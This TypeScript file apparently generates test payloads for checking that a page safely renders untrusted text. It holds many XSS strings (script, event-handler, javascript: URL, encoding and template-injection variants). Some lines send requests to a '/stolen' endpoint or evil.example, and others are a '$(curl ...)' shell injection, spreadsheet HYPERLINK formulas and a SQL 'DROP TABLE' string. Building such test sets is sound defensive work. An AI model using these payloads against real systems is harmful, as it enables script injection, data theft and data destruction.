/** Families of text that a careless page would take for markup, script or an address; made here, not taken from a list. */

/** What a payload runs where it runs: the page counts calls, and a request would be seen. */
const call = "window.ran?.()";
const tags = ["script", "ScRiPt", "svg", "img", "iframe", "object", "embed", "math", "details", "video", "audio", "body", "marquee", "input", "form", "style", "base", "meta", "link", "template"] as const;
const events = ["onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbeforeinput", "onwheel", "oncopy"] as const;
const addresses = ["javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "data:text/html,", "vbscript:", "blob:", "//evil.example/"] as const;

/**
 * At least 200 different texts, none longer than 300 characters, without control characters that the server refuses
 * anyway.
 *
 * @param origin - Where a payload that loads something would be seen.
 */
export function scriptPayloads(origin: string): readonly string[] {
  const steal = `${origin}/stolen`;
  const texts = [
    // Elements that run something by themselves.
    ...tags.map((tag) => `<${tag} src=x href=x autofocus onerror=${call} onload=${call}>${call}</${tag}>`),
    ...tags.map((tag) => `"><${tag} ${events[tag.length % events.length] ?? "onload"}="${call}" src="${steal}">`),
    ...tags.map((tag, at) => `'/><${tag}/${events[at % events.length] ?? "onload"}=${call} srcdoc="<script>parent.ran()</script>"//`),
    // Ways out of an attribute, of a comment, of an element that holds text.
    ...events.flatMap((event) => [`" ${event}="${call}" x="`, `' ${event}='${call}' x='`, `x ${event}=${call} autofocus tabindex=0 `]),
    ...["textarea", "title", "option", "select", "style", "noscript", "svg", "template", "xmp", "dd", "time", "q"].flatMap((tag) => [`</${tag}><script>${call}</script>`, `</${tag}><img src=x onerror=${call}>`]),
    `--><script>${call}</script><!--`,
    `]]><script>${call}</script>`,
    // Addresses.
    ...addresses.flatMap((scheme) => [`${scheme}${call}`, `<a href="${scheme}${call}">x</a>`, `[x](${scheme}${call})`, `tel:${scheme}${call}`]),
    // Templates of other libraries, and of this one.
    ...["{{", "${", "#{", "<%=", "[[", "{%", "@{"].map((open) => `${open}constructor.constructor('${call}')()}}%>`),
    "?lit$000000000$",
    "<!--?lit$1$--><script>window.ran?.()</script>",
    `<?lit$1$><img src=x onerror=${call}>`,
    "${html`<script>window.ran?.()</script>`}",
    // Encodings that a second decoder would undo.
    ...["&lt;", "&#60;", "&#x3c;", "%3C", "\\u003c", "\\x3c", "＜", "‹", "<\u200B", "<​/"].map((less) => `${less}script>${call}${less}/script>`),
    ...["&#106;avascript:", "jav&#x09;ascript:", "javascript&colon;", "\u202Ejavascript:", "ｊavascript:"].map((scheme) => `${scheme}${call}`),
    // What changes with normalisation or case.
    ...["<ſcript>", "<scrİpt>", "<ſvg onload=", "<ıframe srcdoc="].map((begin) => `${begin}${call}>`),
    // Objects instead of text.
    '{"_$litType$":1,"strings":["<script>window.ran?.()</script>"],"values":[]}',
    '{"__proto__":{"innerHTML":"<img src=x onerror=window.ran?.()>"}}',
    '["<img src=x onerror=window.ran?.()>"]',
    // CSS, and what a page would load.
    `</style><style>@import '${steal}';*{background:url(${steal})}</style>`,
    `<style>body{background:url("javascript:${call}")}</style>`,
    `<link rel=stylesheet href=${steal}>`,
    `<meta http-equiv=refresh content="0;url=${steal}">`,
    `<base href=${steal}/>`,
    `<iframe srcdoc="<script>parent.ran?.()</script>"></iframe>`,
    `<math><mtext></p><p id='</math><img src=x onerror=${call}>'>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${call}/>#x">`,
    `<form action="javascript:${call}"><button autofocus>x</button></form>`,
    `<img src=x:x onerror=${call}//`,
    `<x onclick=${call} style=position:fixed;inset:0>x</x>`,
    // For a spreadsheet, a shell and a database, which read the same text later.
    ...["=", "+", "-", "@", "\t="].map((begin) => `${begin}HYPERLINK("${steal}","x")`),
    `$(curl ${steal})`,
    "'; DROP TABLE submissions; --",
    // What makes a page long, crooked or unreadable.
    "A".repeat(300),
    "\u202E\u2066".repeat(40),
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞".repeat(3),
  ];
  return [...new Set(texts)].map((text) => text.slice(0, 300));
}
